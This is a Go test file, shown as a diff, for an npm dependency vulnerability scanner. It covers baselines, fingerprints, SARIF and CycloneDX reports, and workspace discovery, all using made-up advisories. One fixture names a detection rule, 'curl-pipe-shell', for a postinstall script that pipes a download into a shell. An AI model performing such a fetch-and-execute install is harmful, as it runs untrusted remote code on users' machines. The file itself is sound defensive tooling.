+			SecurityScan:    ActionResult{Success: true},
+			Vulnerabilities: append([]Vulnerability(nil), vulns...),
+		}
+		assignFingerprints(dir, &result)
+		return result
+	}
+
+	// フィンガープリントは対象ディレクトリからの相対パスで計算する
+	first := scanned(web, lodash)
+	if other := scanned(api, lodash); first.Vulnerabilities[0].Fingerprint == other.Vulnerabilities[0].Fingerprint {
+		t.Errorf("Expected fingerprints to differ between projects")
+	}
+	moved := ScanResult{ProjectPath: "apps/web", Vulnerabilities: []Vulnerability{lodash}}
+	assignFingerprints(".", &moved)
+	if moved.Vulnerabilities[0].Fingerprint != first.Vulnerabilities[0].Fingerprint {
+		t.Errorf("Expected the fingerprint not to depend on the target directory location")
+	}
+
+	report := &Report{TargetDir: dir, Results: []ScanResult{
+		scanned(web, lodash, malware),
+		scanned(api, minimist),
+	}}
+	path := filepath.Join(dir, DefaultBaselineFile)
+	if err := WriteBaseline(path, NewBaseline(report)); err != nil {
+		t.Fatalf("WriteBaseline failed: %v", err)
+	}
+	baseline, err := LoadBaseline(path)
+	if err != nil {
+		t.Fatalf("LoadBaseline failed: %v", err)
+	}
+	if len(baseline.Findings) != 2 || baseline.Findings[0].Project != "apps/api" ||
+		baseline.Findings[0].Advisory != "CVE-2021-1" || baseline.Findings[1].Advisory != "GHSA-aaaa" {
+		t.Fatalf("Unexpected baseline findings (malware must be excluded): %+v", baseline.Findings)
+	}
+
+	// lodashは既知、新しいバージョンのlodashとマルウェアは新規、minimistは解消済み
+	upgraded := lodash
+	upgraded.Version = "4.17.21"
+	webResult := scanned(web, lodash, upgraded, malware)
+	baseline.apply(&webResult)
+	apiResult := scanned(api)
+	baseline.apply(&apiResult)
+
+	if len(webResult.Baselined) != 1 || webResult.Baselined[0].Version != "4.17.20" {
+		t.Errorf("Expected the known lodash finding to be baselined, got %+v", webResult.Baselined)
+	}
+	if len(webResult.Vulnerabilities) != 2 {
+		t.Errorf("Expected the new lodash version and malware to stay active, got %+v", webResult.Vulnerabilities)
+	}
+
+	next := &Report{TargetDir: dir, Results: []ScanResult{webResult, apiResult}}
+	resolved := baseline.resolved(next)
+	if len(resolved) != 1 || resolved[0].Package != "minimist" {
+		t.Errorf("Expected minimist to be resolved since the baseline, got %+v", resolved)
+	}
+	if got := next.CountFindingsAtOrAbove(SeverityHigh); got != 2 {
+		t.Errorf("Expected 2 gated findings at or above high, got %d", got)
+	}
+
+	// スキャンに失敗したプロジェクトの検出結果は解消済みとしない
+	next.Results[1].SecurityScan.Success = false
+	if resolved := baseline.resolved(next); len(resolved) != 0 {
+		t.Errorf("Expected no resolved findings for failed projects, got %+v", resolved)
+	}
+
+	// 再作成したベースラインには既知の検出結果も含まれる
+	if rebuilt := NewBaseline(next); len(rebuilt.Findings) != 2 {
+		t.Errorf("Expected the rebuilt baseline to keep the baselined finding, got %+v", rebuilt.Findings)
+	}
+}
+
+func TestSARIFReport(t *testing.T) {
+	dir := t.TempDir()
+	project := filepath.Join(dir, "web")
+	if err := os.MkdirAll(project, 0755); err != nil {
+		t.Fatalf("Failed to create project: %v", err)
+	}
+	files := map[string]string{
+		"package.json": `{
+  "name": "web",
+  "version": "1.0.0",
+  "dependencies": {
+    "lodash": "^4.17.0"
+  }
+}
+`,
+		"package-lock.json": `{
+  "name": "web",
+  "lockfileVersion": 3,
+  "packages": {
+    "": {
+      "dependencies": {
+        "lodash": "^4.17.0"
+      }
+    },
+    "node_modules/lodash": {
+      "version": "4.17.20",
+      "dependencies": {
+        "minimist": "^1.2.0"
+      }
+    },
+    "node_modules/minimist": {
+      "version": "1.2.0"
+    }
+  }
+}
+`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(project, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	lodash := Vulnerability{Severity: SeverityHigh, Package: "lodash", Version: "4.17.20", GHSA: "GHSA-aaaa",
+		Description: "Prototype pollution", CVSS: 7.4, IsDirect: true, URL: "https://github.com/advisories/GHSA-aaaa"}
+	minimist := Vulnerability{Severity: SeverityModerate, Package: "minimist", Version: "1.2.0", GHSA: "GHSA-bbbb",
+		Description: "Prototype pollution"}
+	script := Vulnerability{Type: FindingLifecycleScript, Severity: SeverityHigh, Package: "evil",
+		AdvisoryID: "script:curl-pipe-shell", Description: "postinstall script pipes a download into a shell",
+		Location: "node_modules/evil/install.js:3"}
+	// npm audit v2の推移的な検出結果にはアドバイザリ・GHSA・CVEがない
+	transitive := Vulnerability{Severity: SeverityHigh, Package: "lodash", Version: "4.17.20",
+		Description: "Depends on vulnerable minimist", Via: []string{"lodash", "minimist"}, IsDirect: true}
+	suppressed := minimist
+	suppressed.Package, suppressed.GHSA = "debug", "GHSA-cccc"
+	suppressed.Suppression = &Suppression{Reason: "dev only", Owner: "team-web", Expires: "2030-01-01"}
+
+	result := ScanResult{ProjectPath: project, PackageManager: PackageManagerNpm, Status: StatusSuccess,
+		Vulnerabilities: []Vulnerability{lodash, minimist, script, lodash, transitive},
+		Suppressed:      []Vulnerability{suppressed}}
+	assignFingerprints(dir, &result)
+	log := newSARIFLog(&Report{ScanID: "scan_1", TargetDir: dir, Results: []ScanResult{result}})
+
+	if log.Version != "2.1.0" || len(log.Runs) != 1 {
+		t.Fatalf("Unexpected SARIF log: %+v", log)
+	}
+	run := log.Runs[0]
+	if len(run.Tool.Driver.Rules) != 5 || len(run.Results) != 6 {
+		t.Fatalf("Expected 5 rules and 6 results, got %d and %d", len(run.Tool.Driver.Rules), len(run.Results))
+	}
+	rule := run.Tool.Driver.Rules[0]
+	if rule.ID != "GHSA-aaaa" || rule.Properties.SecuritySeverity != "7.4" || rule.DefaultConfiguration.Level != "error" ||
+		!strings.Contains(rule.Help.Text, "https://github.com/advisories/GHSA-aaaa") {
+		t.Errorf("Unexpected rule: %+v", rule)
+	}
+
+	locations := []struct {
+		uri  string
+		line int
+	}{
+		{"web/package.json", 5},
+		{"web/package-lock.json", 16},
+		{"web/node_modules/evil/install.js", 3},
+	}
+	for i, want := range locations {
+		location := run.Results[i].Locations[0].PhysicalLocation
+		if location.ArtifactLocation.URI != want.uri || location.Region == nil || location.Region.StartLine != want.line {
+			t.Errorf("Result %d: expected %s:%d, got %+v %+v", i, want.uri, want.line,
+				location.ArtifactLocation, location.Region)
+		}
+	}
+
+	if run.Results[0].PartialFingerprints[sarifFingerprintKey] != result.Vulnerabilities[0].Fingerprint ||
+		run.Results[0].PartialFingerprints[sarifFingerprintKey] != run.Results[3].PartialFingerprints[sarifFingerprintKey] {
+		t.Errorf("Expected stable fingerprints for the same finding")
+	}
+	if run.Results[1].Level != "warning" || run.Results[1].RuleIndex != 1 {
+		t.Errorf("Unexpected minimist result: %+v", run.Results[1])
+	}
+	if rule := run.Tool.Driver.Rules[run.Results[4].RuleIndex]; run.Results[4].RuleID != "npm-transitive/lodash" ||
+		rule.ID != run.Results[4].RuleID {
+		t.Errorf("Expected a stable rule ID for the transitive finding, got %s (rule %s)", run.Results[4].RuleID, rule.ID)
+	}
+	if s := run.Results[5].Suppressions; len(s) != 1 || s[0].Status != "accepted" {
+		t.Errorf("Expected the suppressed finding to carry an accepted suppression, got %+v", s)
+	}
+}
+
+func TestCycloneDX(t *testing.T) {
+	dir := t.TempDir()
+	project := filepath.Join(dir, "apps", "web")
+	if err := os.MkdirAll(project, 0755); err != nil {
+		t.Fatalf("Failed to create project: %v", err)
+	}
+	files := map[string]string{
+		"package.json": `{"name": "web", "version": "1.0.0", "license": "MIT", "dependencies": {"lodash": "^4.17.0"},
+  "devDependencies": {"@types/node": "^20.0.0"}}`,
+		"package-lock.json": `{
+  "name": "web",
+  "lockfileVersion": 3,
+  "packages": {
+    "": {"dependencies": {"lodash": "^4.17.0"}, "devDependencies": {"@types/node": "^20.0.0"}},
+    "node_modules/lodash": {"version": "4.17.20", "integrity": "sha512-AAEC", "license": "MIT",
+      "dependencies": {"minimist": "^1.2.0"}},
+    "node_modules/minimist": {"version": "1.2.0", "license": "(MIT OR Apache-2.0)"},
+    "node_modules/@types/node": {"version": "20.1.0", "dev": true, "license": {"type": "Custom"}}
+  }
+}`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(project, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	lodash := Vulnerability{Severity: SeverityModerate, Package: "lodash", Version: "4.17.20", GHSA: "GHSA-aaaa",
+		Description: "Prototype pollution", CVSS: 6.5, FixVersion: "4.17.21", URL: "https://github.com/advisories/GHSA-aaaa"}
+	suppressed := Vulnerability{Severity: SeverityLow, Package: "minimist", Version: "1.2.0", CVEs: []string{"CVE-2021-1"},
+		Suppression: &Suppression{Reason: "not reachable", Owner: "team-web", Expires: "2030-01-01"}}
+	fixed := lodash
+	fixed.GHSA, fixed.Fixed = "GHSA-bbbb", true
+	result := ScanResult{ProjectPath: project, PackageManager: PackageManagerNpm, Status: StatusSuccess,
+		Vulnerabilities: []Vulnerability{lodash, fixed}, Suppressed: []Vulnerability{suppressed}}
+	assignFingerprints(dir, &result)
+
+	lock, err := sbomInventory(project, packageManagerByName(PackageManagerNpm))
+	if err != nil {
+		t.Fatalf("Failed to read inventory: %v", err)
+	}
+	bom := newProjectBOM(&result, lock, time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC))
+
+	if bom.SpecVersion != "1.5" || !strings.HasPrefix(bom.SerialNumber, "urn:uuid:") ||
+		bom.Metadata.Component.BOMRef != "pkg:npm/web@1.0.0" || bom.Metadata.Timestamp != "2024-01-02T03:04:05Z" {
+		t.Errorf("Unexpected BOM header: %+v", bom.Metadata)
+	}
+	if len(bom.Components) != 3 {
+		t.Fatalf("Expected 3 components, got %d", len(bom.Components))
+	}
+	types := bom.Components[0]
+	if types.Purl != "pkg:npm/%40types/node@20.1.0" || types.Group != "@types" || types.Name != "node" ||
+		types.Scope != "excluded" || len(types.Properties) != 1 || types.Licenses[0].License.Name != "Custom" {
+		t.Errorf("Unexpected dev component: %+v", types)
+	}
+	lodashComponent := bom.Components[1]
+	if lodashComponent.Scope != "required" || len(lodashComponent.Hashes) != 1 ||
+		lodashComponent.Hashes[0] != (cdxHash{Alg: "SHA-512", Content: "000102"}) ||
+		lodashComponent.Licenses[0].License.ID != "MIT" {
+		t.Errorf("Unexpected lodash component: %+v", lodashComponent)
+	}
+	if bom.Components[2].Licenses[0].Expression != "(MIT OR Apache-2.0)" {
+		t.Errorf("Expected a license expression, got %+v", bom.Components[2].Licenses)
+	}
+
+	graph := make(map[string][]string)
+	for _, dependency := range bom.Dependencies {
+		graph[dependency.Ref] = dependency.DependsOn
+	}
+	if !reflect.DeepEqual(graph["pkg:npm/web@1.0.0"], []string{"pkg:npm/%40types/node@20.1.0", "pkg:npm/lodash@4.17.20"}) ||
+		!reflect.DeepEqual(graph["pkg:npm/lodash@4.17.20"], []string{"pkg:npm/minimist@1.2.0"}) {
+		t.Errorf("Unexpected dependency graph: %v", graph)
+	}
+
+	if len(bom.Vulnerabilities) != 2 {
+		t.Fatalf("Expected 2 vulnerabilities (fixed excluded), got %d", len(bom.Vulnerabilities))
+	}
+	vuln := bom.Vulnerabilities[0]
+	if vuln.ID != "GHSA-aaaa" || vuln.BOMRef != result.Vulnerabilities[0].Fingerprint || vuln.Ratings[0].Severity != "medium" ||
+		vuln.Ratings[0].Score != 6.5 || vuln.Affects[0].Ref != "pkg:npm/lodash@4.17.20" || vuln.Analysis != nil {
+		t.Errorf("Unexpected vulnerability: %+v", vuln)
+	}
+	if accepted := bom.Vulnerabilities[1]; accepted.ID != "CVE-2021-1" || accepted.Source.Name != "NVD" ||
+		accepted.Analysis == nil || accepted.Analysis.Response[0] != "will_not_fix" {
+		t.Errorf("Expected the suppressed finding as an accepted risk, got %+v", accepted)
+	}
+
+	data, err := xml.Marshal(bom)
+	if err != nil {
+		t.Fatalf("Failed to marshal XML: %v", err)
+	}
+	for _, want := range []string{`<bom xmlns="http://cyclonedx.org/schema/bom/1.5"`, `<hash alg="SHA-512">000102</hash>`,
+		`<licenses><expression>(MIT OR Apache-2.0)</expression></licenses>`,
+		`<dependency ref="pkg:npm/lodash@4.17.20"><dependency ref="pkg:npm/minimist@1.2.0"></dependency></dependency>`,
+		`<affects><target><ref>pkg:npm/lodash@4.17.20</ref></target></affects>`} {
+		if !strings.Contains(string(data), want) {
+			t.Errorf("Expected XML to contain %s", want)
+		}
+	}
+
+	// lockfileがない場合はインストール済みのツリーから作る
+	if err := os.Remove(filepath.Join(project, "package-lock.json")); err != nil {
+		t.Fatalf("Failed to remove lockfile: %v", err)
+	}
+	for path, manifest := range map[string]string{
+		"node_modules/lodash":      `{"name": "lodash", "version": "4.17.20", "license": "MIT", "dependencies": {"minimist": "^1.2.0"}}`,
+		"node_modules/minimist":    `{"name": "minimist", "version": "1.2.0"}`,
+		"node_modules/@types/node": `{"name": "@types/node", "version": "20.1.0"}`,
+	} {
+		if err := os.MkdirAll(filepath.Join(project, path), 0755); err != nil {
+			t.Fatalf("Failed to create %s: %v", path, err)
+		}
+		if err := os.WriteFile(filepath.Join(project, path, "package.json"), []byte(manifest), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", path, err)
+		}
+	}
+	lock, err = sbomInventory(project, packageManagerByName(PackageManagerNpm))
+	if err != nil {
+		t.Fatalf("Failed to read installed tree: %v", err)
+	}
+	bom = newProjectBOM(&result, lock, time.Now())
+	scopes := make(map[string]string)
+	for _, component := range bom.Components {
+		scopes[component.Purl] = component.Scope
+	}
+	want := map[string]string{"pkg:npm/%40types/node@20.1.0": "excluded", "pkg:npm/lodash@4.17.20": "required",
+		"pkg:npm/minimist@1.2.0": "required"}
+	if !reflect.DeepEqual(scopes, want) {
+		t.Errorf("Expected scopes %v from the installed tree, got %v", want, scopes)
+	}
+}
+
+func TestMatchGlob(t *testing.T) {
+	cases := []struct {
+		pattern, name string
+		expected      bool
+	}{
+		{"packages/*", "packages/a", true},
+		{"packages/*", "packages/a/b", false},
+		{"packages/**", "packages/a/b", true},
+		{"**/fixtures", "test/unit/fixtures", true},
+		{"**/fixtures", "fixtures", true},
+		{"apps/web", "apps/web", true},
+		{"./apps/*", "apps/api", true},
+		{"apps/*", "packages/a", false},
+	}
+
+	for _, tc := range cases {
+		if got := matchGlob(tc.pattern, tc.name); got != tc.expected {
+			t.Errorf("matchGlob(%q, %q) = %v, expected %v", tc.pattern, tc.name, got, tc.expected)
+		}
+	}
+}
+
+func TestWorkspaceGrouping(t *testing.T) {
+	tempDir := t.TempDir()
+	files := map[string]string{
+		"mono/package.json":                       `{"name": "mono", "workspaces": ["packages/*", "!packages/legacy"]}`,
+		"mono/packages/a/package.json":            `{"name": "@mono/a"}`,
+		"mono/packages/b/package.json":            `{"name": "@mono/b"}`,
+		"mono/packages/legacy/package.json":       `{"name": "legacy"}`,
+		"yarn1/package.json":                      `{"name": "yarn1", "workspaces": {"packages": ["libs/*"]}}`,
+		"yarn1/libs/x/package.json":               `{"name": "x"}`,
+		"pnpm/package.json":                       `{"name": "pnpm-root"}`,
+		"pnpm/pnpm-workspace.yaml":                "packages:\n  - 'apps/**'\n",
+		"pnpm/apps/web/package.json":              `{"name": "web"}`,
+		"pnpm/apps/web/node_modules/package.json": `{"name": "ignored"}`,
+		"standalone/package.json":                 `{"name": "standalone"}`,
+	}
+	for name, content := range files {
+		path := filepath.Join(tempDir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	members := workspaceMembers(filepath.Join(tempDir, "mono"))
+	if len(members) != 2 || members[0].Name != "@mono/a" || members[1].Dir != "packages/b" {
+		t.Errorf("Unexpected npm workspace members: %+v", members)
+	}
+
+	projects, err := Discover(context.Background(), tempDir, DiscoveryOptions{})
+	if err != nil {
+		t.Fatalf("Discover failed: %v", err)
+	}
+	expected := []string{"mono", "mono/packages/legacy", "pnpm", "standalone", "yarn1"}
+	if len(projects) != len(expected) {
+		t.Fatalf("Expected projects %v, got %v", expected, projects)
+	}
+	for i, project := range projects {
+		if rel, _ := filepath.Rel(tempDir, project.Dir); filepath.ToSlash(rel) != expected[i] {
+			t.Errorf("Expected project %s, got %s", expected[i], rel)
+		}
+	}
+}
+
+func TestAttributeWorkspaceFindings(t *testing.T) {
+	projectDir := t.TempDir()
+	files := map[string]string{
+		"package.json":            `{"name": "mono", "workspaces": ["packages/*"], "devDependencies": {"c": "^1.0.0"}}`,
+		"packages/a/package.json": `{"name": "@mono/a", "dependencies": {"b": "^1.0.0"}}`,
+		"packages/b/package.json": `{"name": "@mono/b", "dependencies": {"c": "^2.0.0"}}`,
+		"package-lock.json": `{
+  "name": "mono",
+  "lockfileVersion": 3,
+  "packages": {
+    "": {"name": "mono", "workspaces": ["packages/*"], "devDependencies": {"c": "^1.0.0"}},
+    "node_modules/@mono/a": {"resolved": "packages/a", "link": true},
+    "node_modules/@mono/b": {"resolved": "packages/b", "link": true},
+    "node_modules/b": {"version": "1.0.0", "dependencies": {"c": "^1.0.0"}},
+    "node_modules/c": {"version": "1.5.0"},
+    "packages/a": {"name": "@mono/a", "dependencies": {"b": "^1.0.0"}},
+    "packages/b": {"name": "@mono/b", "dependencies": {"c": "^2.0.0"}},
+    "packages/b/node_modules/c": {"version": "2.0.0"}
+  }
+}`,
+	}
+	for name, content := range files {
+		path := filepath.Join(projectDir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	result := ScanResult{Vulnerabilities: []Vulnerability{
+		{Package: "c", Version: "1.5.0"},
+		{Package: "c", Version: "2.0.0"},
+		{Package: "b"},
+	}}
+	attributeWorkspaceFindings(io.Discard, projectDir, npmManager{}, workspaceMembers(projectDir), &result)
+
+	expected := [][]string{{"@mono/a", "mono"}, {"@mono/b"}, {"@mono/a"}}
+	for i, vuln := range result.Vulnerabilities {
+		if strings.Join(vuln.Workspaces, ",") != strings.Join(expected[i], ",") {
+			t.Errorf("Finding %d (%s@%s): expected workspaces %v, got %v",
+				i, vuln.Package, vuln.Version, expected[i], vuln.Workspaces)
+		}
+	}
+}
+
+// ベンチマークテスト
+func TestScanLibrary(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"advisories.json": `[{"ghsa_id": "GHSA-dddd-eeee-ffff", "summary": "ReDoS", "severity": "high",
+  "vulnerabilities": [{"package": {"ecosystem": "npm", "name": "a"}, "vulnerable_version_range": "< 1.0.1"}]}]`,
+		"web/package.json": `{"name": "web", "dependencies": {"a": "^1.0.0"}}`,
+		"web/package-lock.json": `{"name": "web", "lockfileVersion": 3, "packages": {
+  "": {"name": "web", "dependencies": {"a": "^1.0.0"}}, "node_modules/a": {"version": "1.0.0"}}}`,
+		"api/package.json": `{"name": "api"}`,
+	}
+	for name, content := range files {
+		path := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	db, err := LoadAdvisoryDatabase(filepath.Join(dir, "advisories.json"))
+	if err != nil {
+		t.Fatalf("LoadAdvisoryDatabase failed: %v", err)
+	}
+	var log strings.Builder
+	opts := Options{AdvisoryDB: db, TargetDir: dir, Jobs: 2, Log: &log}
+
+	projects, err := Discover(context.Background(), dir, DiscoveryOptions{})
+	if err != nil {
+		t.Fatalf("Discover failed: %v", err)
+	}
+	if len(projects) != 2 || projects[1].PackageManager != PackageManagerNpm {
+		t.Fatalf("Unexpected projects: %+v", projects)
+	}
+
+	report, err := ScanAll(context.Background(), projects, opts)
+	if err != nil {
+		t.Fatalf("ScanAll failed: %v", err)
+	}
+	if report.ProjectsScanned != 2 || report.Results[1].ProjectPath != filepath.Join(dir, "web") ||
+		report.CountFindingsAtOrAbove(SeverityHigh) != 1 {
+		t.Errorf("Unexpected report: %+v", report)
+	}
+	if !strings.Contains(log.String(), "Processing: "+filepath.Join(dir, "web")) {
+		t.Errorf("Expected progress to be written to Options.Log, got:\n%s", log.String())
+	}
+
+	// 単一プロジェクトのスキャンではロックファイルがないことがエラーとして返る
+	result, err := Scan(context.Background(), filepath.Join(dir, "api"), opts)
+	if err == nil || result.Status != StatusFailed {
+		t.Errorf("Expected the project without a lockfile to fail, got %s and %v", result.Status, err)
+	}
+	if _, err := Scan(context.Background(), dir, Options{ReadOnly: true, Fix: true}); err == nil {
+		t.Errorf("Expected invalid options to be rejected")
+	}
+
+	// キャンセル済みのコンテキストでは探索しない
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	if _, err := Discover(ctx, dir, DiscoveryOptions{}); !errors.Is(err, context.Canceled) {
+		t.Errorf("Expected a cancelled discovery, got %v", err)
+	}
+}
+
+func BenchmarkFindNpmProjects(b *testing.B) {
+	// テスト用の一時ディレクトリを作成
+	tempDir := b.TempDir()
+
+	// 複数のプロジェクトを作成
+	for i := 0; i < 10; i++ {
+		projectDir := filepath.Join(tempDir, "project"+string(rune(i+'0')))
+		if err := os.MkdirAll(projectDir, 0755); err != nil {
+			b.Fatalf("Failed to create test directory: %v", err)
+		}
+
+		packageJson := filepath.Join(projectDir, "package.json")
+		if err := os.WriteFile(packageJson, []byte(`{"name": "test"}`), 0644); err != nil {
+			b.Fatalf("Failed to create package.json: %v", err)
+		}
+	}
+
+	// ベンチマーク実行
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_, err := Discover(context.Background(), tempDir, DiscoveryOptions{})
+		if err != nil {
+			b.Fatalf("Discover failed: %v", err)
+		}
+	}
+}